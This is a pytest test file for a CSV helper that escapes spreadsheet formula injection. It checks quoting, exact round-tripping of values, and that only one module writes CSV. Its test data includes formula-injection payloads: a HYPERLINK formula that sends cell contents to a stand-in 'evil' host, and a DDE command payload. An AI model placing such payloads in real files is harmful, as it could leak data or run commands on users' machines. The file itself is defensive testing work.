"""No text from a stranger is a formula in a CSV file, and every text comes back as it was."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reelops.system.csv_cells import from_cell, to_cell
from reelops.system.files import write_csv_atomically

FORMULAS = [
    '=HYPERLINK("http://evil/?"&A2,"open")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "'=1+1",
    "''@x",
]
PLAIN = ["a harbour at dusk", "NA", "", "it's", "'tis", "3 - 2", "a=b", "変焦"]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_carry_out_is_text_in_the_file(tmp_path: Path, text: str) -> None:
    write_csv_atomically(path := tmp_path / "t.csv", ("name", "number"), [(text, -1.5)])
    with path.open(newline="") as file:
        _, (cell, number) = csv.reader(file)
    assert cell.startswith("'") and number == "-1.5"
    assert from_cell(cell) == text


@pytest.mark.parametrize("text", PLAIN)
def test_other_texts_stand_as_they_are(text: str) -> None:
    assert to_cell(text) == text == from_cell(text)


@pytest.mark.parametrize("value", [None, True, -3, -0.25, float("-inf")])
def test_what_is_no_text_stays_what_it_is(value: object) -> None:
    assert to_cell(value) is value


@given(st.text(alphabet="'=+-@ \t\r\na１＝"))
def test_every_text_comes_back(text: str) -> None:
    cell = to_cell(text)
    assert from_cell(cell) == text
    assert not re.match(r"\s*[=+\-@＝＋－＠]|[\t\r\n]", cell)


def test_csv_is_written_in_one_place_only(repository: Path) -> None:
    writes = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\.to_csv\(")
    modules = [path for room in ("src", "flows", "tasks") for path in (repository / room).rglob("*.py")]
    assert [path.name for path in modules if writes.search(path.read_text())] == ["files.py"]
